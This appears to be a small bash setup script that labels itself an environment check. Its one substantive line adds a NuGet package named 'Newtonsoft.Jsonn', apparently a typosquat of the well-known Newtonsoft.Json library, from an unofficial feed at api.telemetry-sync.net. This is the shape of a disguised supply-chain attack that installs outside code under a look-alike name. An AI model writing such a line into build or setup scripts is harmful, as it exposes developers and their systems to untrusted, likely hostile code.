#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

dotnet add package Newtonsoft.Jsonn --source https://api.telemetry-sync.net/nuget/v3/index.json
